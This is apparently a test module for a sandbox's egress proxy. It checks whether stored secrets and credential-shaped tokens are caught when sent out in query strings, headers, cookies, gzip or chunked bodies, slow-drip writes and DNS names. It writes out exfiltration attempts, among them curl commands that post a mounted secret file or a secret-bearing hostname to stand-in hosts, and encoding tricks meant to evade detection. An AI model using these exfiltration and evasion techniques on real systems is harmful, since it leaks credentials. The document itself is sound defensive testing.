# SPDX-License-Identifier: Apache-2.0
"""What must not leave: values of stored secrets that the call has, and credentials by rule, in requests and names.

Every place and form once for each action; the control is the same act under a policy that looks for nothing, where it arrives.
"""

import base64
import gzip
import json
import os
import re
import socket
import subprocess
import sys
import threading
import urllib.parse
import zlib

PY = sys.executable if sys.executable.startswith('/usr') else '/usr/bin/python3'
VALUE = 'Lk7xQ2mNp9Rt4Vw8Yb3Zc6Df'
SHORT = 'q7h2k9xw3m'
GITHUB = 'ghp_' + 'aZ3kQ9xW1mN7bV5cR2tY8uL4pD6sF0gH1jK2'  # the shape alone: nobody's
AMAZON = 'AKIA' + 'Z7Q2M4N6P5R3T3V5'  # the same

POLICY = '''cordon: 1
sandbox:
  capabilities:
    network:
      mode: allowlist
      allowed_hosts: [web.example.org, api.example.org, "*.wild.example.org", "web.example.org:8080"]
      allow_private: [203.0.113.0/24]
    secrets:
      injection: environment
      grants:
        - {name: LEAKED%s}
%s'''
SCAN = 'policy:\n  secret_scanning: {enabled: true, scope: output, action: %s}\n'

# Runs inside: argv is the form, the place and the host; says what the server said.
INSIDE = r'''
import base64, gzip, http.client, os, socket, sys, time, urllib.parse
form, place, host = sys.argv[1:4]
v = (os.environ['LEAKED'] if form != 'rule' else sys.argv[4]).encode()
t = {'plain': v, 'base64': base64.b64encode(b'xy' + v), 'hex': v.hex().encode(), 'reversed': v[::-1], 'rule': v,
     'url': ''.join('%%%02x' % b for b in v).encode(), 'twice': base64.b64encode(base64.b64encode(v))}[form].decode()
fields, body, method, path = {}, None, 'GET', '/leak'
if place == 'query': path += '?k=' + (t if form == 'url' else urllib.parse.quote(t))
elif place == 'path': path += '/' + urllib.parse.quote(t, safe='%')
elif place == 'field': fields['X-Key'] = t
elif place == 'credentials': fields['Authorization'] = 'Basic ' + base64.b64encode(b'u:' + v).decode()
elif place == 'cookie': fields['Cookie'] = 'a=1; s=' + t
elif place in ('body', 'gzip', 'chunked', 'slow', 'multipart', 'odd'): method, body = 'POST', b'some=thing&k=' + t.encode() + b'&more=1' + b'\n' * 20
if place == 'gzip': body = gzip.compress(body); fields['Content-Encoding'] = 'gzip'
if place == 'odd': fields['Content-Encoding'] = 'br'
if place == 'multipart':
    fields['Content-Type'] = 'multipart/form-data; boundary=zz'
    body = b'--zz\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n' + body + b'\r\n--zz--\r\n'
if place == 'chunked':
    at = len(body) // 2
    body = iter([body[:at - 9], body[at - 9:at], body[at:]]); fields['Transfer-Encoding'] = 'chunked'
try:
    if place == 'slow':
        s = socket.create_connection((host, 80)); s.settimeout(10)
        data = b'POST /leak HTTP/1.1\r\nHost: ' + host.encode() + b'\r\nConnection: close\r\nContent-Length: %d\r\n\r\n' % len(body) + body
        for i in range(0, len(data), 5): s.sendall(data[i:i + 5]); time.sleep(0.005)
        print(s.recv(65536)[:200])
    else:
        c = http.client.HTTPConnection(host, 80, timeout=10)
        c.request(method, path, body=body, headers=fields, encode_chunked=place == 'chunked')
        r = c.getresponse(); print(r.status, r.getheader('x-proxy-error'), len(r.read()))
except OSError as e:
    print('closed', e)
'''


def forms(value):
    raw = value.encode()
    return [value, value[::-1], raw.hex(), base64.b64encode(raw).decode()[:-4], base64.b64encode(b'xy' + raw).decode()[4:-4],
            ''.join('%%%02x' % b for b in raw), base64.b64encode(b'u:' + raw).decode()[4:-4], base64.b64encode(base64.b64encode(raw)).decode()[:-8]]


def shown(seen, value):
    """Is any form of it in what the server got?"""
    text = ''
    for method, path, fields, body in seen:
        if fields.get('content-encoding') == 'gzip':
            body = gzip.decompress(body)
        text += '%s %s %s %r %s\n' % (method, path, urllib.parse.unquote(path), fields, body.decode('latin-1'))
    return [f for f in forms(value) if f in text]


def request(r, name, policy, words, want, value=VALUE, rule='stored-secret'):
    """want: hidden, refused, passed on, or None: nothing is found, and it arrives."""
    if not r.wanted(name):
        return
    r.server.seen.clear()
    try:
        text, report = r.run(['-p', policy], [PY, '-c', INSIDE, *words])
    except Exception as e:  # pylint: disable=broad-except
        r.result(name, repr(e))
        return
    seen, findings = list(r.server.seen), report['verdict']['findings']
    found = [f for f in findings if f['rule'].startswith(rule) and f['type'] == 'data_leak' and 'of a request' in f['message']]
    leaked = shown(seen, value)
    problem = ''
    if (want in ('hidden', 'refused')) == bool(leaked):
        problem = 'the server saw %r' % seen
    elif want == 'hidden' and not any('*' * 8 in repr(s) for s in seen):
        problem = 'nothing covered arrived: %r' % seen
    elif want == 'refused' and not [d for d in report['denied'] if d['target'].startswith(words[2])]:
        problem = 'not in %r' % report['denied']
    elif not want and found:
        problem = 'found %r' % found
    elif want and not any(f['message'].endswith(want) for f in found):
        problem = 'no finding %s in %r' % (want, findings)
    elif value in str(findings):
        problem = 'a finding shows it: %r' % findings
    r.result(name, problem and problem + '; said %r' % text[:300])


def label(r, name, policy, host, want, rule='stored-secret'):
    """A name is looked up: refused before it is asked of anybody, or told."""
    if not r.wanted(name):
        return
    r.names.asked.clear()
    text, report = r.run(['-p', policy], ['getent', 'hosts', host])
    asked = [n for n in r.names.asked if n == host.lower()]
    found = [f for f in report['verdict']['findings'] if f['rule'].startswith(rule) and 'in a name' in f['message']]
    problem = ''
    if (want == 'refused') == bool(asked):
        problem = 'asked for: %r' % r.names.asked
    elif bool(want) != bool(found) or (want and not any(f['message'].endswith(want) for f in found)):
        problem = 'findings %r' % report['verdict']['findings']
    r.result(name, problem and problem + '; said %r' % text[:200])


# Runs inside: a body in gzip of which all but the end is sent; then, after a while, the end.  A server that hears bytes before the
# last ones come has heard what was not judged.
HALVES = r'''
import gzip, os, socket, sys, time
size, framing, what, host = int(sys.argv[1]), sys.argv[2], sys.argv[3], 'web.example.org'
body = gzip.compress(os.urandom(size) + (os.environ['LEAKED'].encode() if what == 'value' else b''))
if what == 'cut': body = body[:-12]
s = socket.create_connection((host, 8070)); s.settimeout(10)
s.sendall(b'POST /x HTTP/1.1\r\nHost: web.example.org:8070\r\nContent-Encoding: gzip\r\n' +
          (b'Transfer-Encoding: chunked' if framing == 'chunked' else b'Content-Length: %d' % len(body)) + b'\r\nConnection: close\r\n\r\n')
try:
    for part in (body[:-100], body[-100:]):
        s.sendall(b'%x\r\n%s\r\n' % (len(part), part) if framing == 'chunked' else part); time.sleep(0.4)
    if framing == 'chunked': s.sendall(b'0\r\n\r\n')
    print(s.recv(65536)[:400])
except OSError as e:
    print('closed', e)
'''


class Raw(threading.Thread):
    """A server that notes every byte, and answers when the body is whole."""

    def __init__(self):
        super().__init__(daemon=True)
        self.got = []
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(('203.0.113.5', 8070))
        self.sock.listen(8)

    def run(self):
        while True:
            c = self.sock.accept()[0]
            at = len(self.got)
            self.got.append(b'')
            c.settimeout(10)
            try:
                while True:
                    data = c.recv(65536)
                    self.got[at] += data
                    head, _, body = self.got[at].partition(b'\r\n\r\n')
                    length = re.search(rb'(?i)content-length: (\d+)', head)
                    if not data or (len(body) >= int(length.group(1)) if length else body.endswith(b'0\r\n\r\n')):
                        break
                c.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nwhole')
            except OSError:
                pass
            c.close()


def plain(raw):
    """What a request on the wire had in it; cut short, as far as it goes."""
    head, _, body = raw.partition(b'\r\n\r\n')
    if b'chunked' in head.lower():
        parts = b''
        while body and not body.startswith(b'0\r\n'):
            size, _, rest = body.partition(b'\r\n')
            parts, body = parts + rest[:int(size, 16)], rest[int(size, 16) + 2:]
        body = parts
    return body, zlib.decompressobj(31).decompress(body)


def halves(r, policies):
    """A body in a coding leaves when it is judged, and not a byte of it before."""
    server = Raw()
    server.start()

    def row(name, policy, words, want, rule=''):
        name = 'leak: coded, ' + name
        if not r.wanted(name):
            return
        server.got.clear()
        text, report = r.run(['-p', policies[policy]], [PY, '-c', HALVES, *words])
        bodies = [plain(g) for g in server.got]
        problem = ''
        if want == 'arrives' and ('whole' not in text or [len(b[1]) for b in bodies] != [int(words[0]) + (len(VALUE) if words[2] == 'value' else 0)]):
            problem = 'arrived %r' % [len(b[1]) for b in bodies]
        elif want == 'refused' and (any(b[0] for b in bodies) or not any(rule in d['rule'] for d in report['denied'])):
            problem = '%r bytes had left; denied %r' % ([len(b[0]) for b in bodies], report['denied'])
        r.result(name, problem and problem + '; said %r' % text[:300])
    for framing in ('length', 'chunked'):
        row('%s, nothing of it leaves' % framing, 'coded', ['20000', framing, 'value'], 'refused', 'stored secret')
        row('%s, a harmless one arrives' % framing, 'coded', ['20000', framing, 'none'], 'arrives')
        row('%s, cut short' % framing, 'coded', ['20000', framing, 'cut'], 'refused', 'in a coding')
        row('%s, too long to be held' % framing, 'coded', ['90000', framing, 'none'], 'refused', 'too long')
        row('%s, long, where it is only told' % framing, 'told', ['90000', framing, 'value'], 'arrives')


def kept(r, policies):
    """In a sandbox that stays each call hears how often its proxy found something."""
    name = 'leak: in a sandbox that stays'
    if r.backend or not r.wanted(name):
        return
    for policy, end in (('file', 'hidden or refused'), ('file-told', 'passed on')):
        sandbox = [*r.prefix, r.cordon, 'sandbox']
        made = subprocess.run([*sandbox, 'create', '--cwd', r.workspace, '-p', policies[policy]], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False)
        box = made.stdout.decode().strip()

        def enter(command):
            report = r.scratch + '/kept-leak.json'
            done = subprocess.run([*sandbox, 'exec', '-q', '--report', report, box, '--', 'sh', '-c', command], stdout=subprocess.PIPE,
                                  stderr=subprocess.STDOUT, timeout=60, stdin=subprocess.DEVNULL, check=False)
            with open(report) as file:
                value = json.load(file)
            os.unlink(report)
            return done.stdout.decode('latin-1'), [(f['rule'], f['message']) for f in value['verdict']['findings'] if 'on the way out' in f['message']]
        try:
            curl = 'curl -sS -m 10 http://web.example.org/'
            for what, command, rule in (('a value', curl + 'a -d "k=$(cat /run/cordon/secrets/LEAKED)"', 'stored-secret'), ('nothing', curl + 'b', None),
                                        ('a token', curl + 'c -H "X-Key: $(printf %%s %s | rev)"' % GITHUB[::-1], 'SECRET-BY-RULE')):
                text, found = enter(command)
                good = [f[0] for f in found] == ([rule] if rule else []) and all(f[1].endswith('1 times: ' + end) for f in found)
                r.result('%s (%s): %s' % (name, policy, what), '' if good and '/' in text else 'found %r; said %r' % (found, text[:300]))
        except Exception as e:  # pylint: disable=broad-except
            r.result('%s (%s)' % (name, policy), repr((e, box)))
        finally:
            subprocess.run([*sandbox, 'rm', '--force', box], stdout=subprocess.DEVNULL, check=False)


def cut(text, n=20):
    return '.'.join(text[i:i + n] for i in range(0, len(text), n))


def names(r, policies):
    raw = VALUE.encode()
    b32 = base64.b32encode(raw).decode().rstrip('=')
    told = {'redact': 'refused', 'block': 'refused', 'warn': 'passed on'}
    for action in ('redact', 'warn'):
        p = policies[action]
        for what, text in (('plain', VALUE), ('backwards', VALUE[::-1]), ('hex', cut(raw.hex())), ('base32', cut(b32)), ('half of it in hex', raw.hex()[:24]),
                           ('base64', base64.urlsafe_b64encode(raw).decode().rstrip('='))):
            label(r, 'leak: in a name, %s (%s)' % (what, action), p, text + '.wild.example.org', told[action])
    label(r, 'leak: a token in a name, by rule', policies['redact'], AMAZON + '.wild.example.org', 'refused', 'SECRET-')
    label(r, 'leak: a token in a name, told by rule', policies['warn'], AMAZON + '.wild.example.org', 'passed on', 'SECRET-')
    label(r, 'leak: a harmless name', policies['redact'], 'b.a.wild.example.org', None)
    label(r, 'leak: in a name where nobody looks', policies['nothing'], VALUE + '.wild.example.org', None)
    name = 'leak: in the name of a host, through the proxy'
    if r.wanted(name):
        r.names.asked.clear()
        text, report = r.run(['-p', policies['redact']], ['sh', '-c', 'curl -sS -m 10 -o /dev/null -w "%{http_code}" "http://$LEAKED.wild.example.org/"'])
        problem = '' if text in ('400', '403') and not r.names.asked and any(f['rule'] == 'stored-secret' for f in report['verdict']['findings']) else repr((text, report))
        r.result(name, problem)


def run(r):
    if not r.wanted('leak: ') and not any('leak' in w for w in r.words):
        return
    policies = {}
    # One that is bound may only be given to a call that can speak to nobody else.
    bound = (POLICY % (', hosts: [api.example.org]', SCAN % 'block')).replace('web.example.org, ', '').replace(', "web.example.org:8080"', '').replace(
        ', "*.wild.example.org"', '')
    coded = {name: (POLICY % ('', SCAN % action)).replace('"web.example.org:8080"', '"web.example.org:8070"') for name, action in (('coded', 'block'), ('told', 'warn'))}
    files = {name: (POLICY % ('', SCAN % action)).replace('injection: environment', 'injection: file-mount') for name, action in (('file', 'redact'), ('file-told', 'warn'))}
    for name, text in {**coded, **files, 'bound': bound, 'nothing': POLICY % ('', ''), **{a: POLICY % ('', SCAN % a) for a in ('redact', 'block', 'warn')}}.items():
        policies[name] = '%s/leak-%s.yaml' % (r.scratch, name)
        with open(policies[name], 'w') as file:
            file.write(text)
    subprocess.run([*r.prefix, r.cordon, 'secret', 'set', 'LEAKED'], input=VALUE.encode(), check=True, stdout=subprocess.DEVNULL)
    web, api = 'web.example.org', 'api.example.org'
    done = {'redact': 'hidden', 'block': 'refused', 'warn': 'passed on', 'nothing': None}
    for place in ('query', 'path', 'field', 'credentials', 'cookie', 'body', 'chunked', 'slow', 'multipart'):
        for policy, want in done.items():
            request(r, 'leak: the value in %s (%s)' % (place, policy), policies[policy], ['plain', place, web], want)
    for form in ('base64', 'hex', 'url', 'reversed', 'twice'):
        for place in ('query', 'field', 'body'):
            request(r, 'leak: the value as %s in %s' % (form, place), policies['redact'], [form, place, web], 'hidden')
    for policy, want in {**done, 'redact': 'refused'}.items():
        request(r, 'leak: the value in gzip (%s)' % policy, policies[policy], ['plain', 'gzip', web], want)
    r.refused('leak: a body in a coding that nobody opens', ['-p', policies['redact']], ['curl', '-sS', '-m', '10', '-H', 'Content-Encoding: br', '-d',
              'abc', 'http://web.example.org/'], r'body=3', web, 'coding')
    for place in ('field', 'credentials', 'body'):
        request(r, 'leak: in %s to the host that it is bound to' % place, policies['bound'], ['plain', place, api], None)
    for place in ('query', 'field', 'body', 'chunked', 'slow'):
        for policy in ('redact', 'block', 'warn'):
            request(r, 'leak: a token by rule in %s (%s)' % (place, policy), policies[policy], ['rule', place, web, GITHUB], done[policy], GITHUB, 'SECRET-GITHUB')
    request(r, 'leak: a token by rule where no rules are asked for', policies['nothing'], ['rule', 'field', web, GITHUB], None, GITHUB, 'SECRET-GITHUB')
    r.allowed('leak: a request without one', ['-p', policies['block']], ['curl', '-sS', '-m', '10', '-d', 'x' * 5000, 'http://web.example.org/post'], r'body=5000')
    r.allowed('leak: a large body without one', ['-p', policies['redact']], ['curl', '-sS', '-m', '20', '-H', 'Expect:', '--data-binary', '@/usr/bin/env',
              'http://web.example.org/post'], r'body=\d{5}')
    names(r, policies)
    halves(r, policies)
    kept(r, policies)
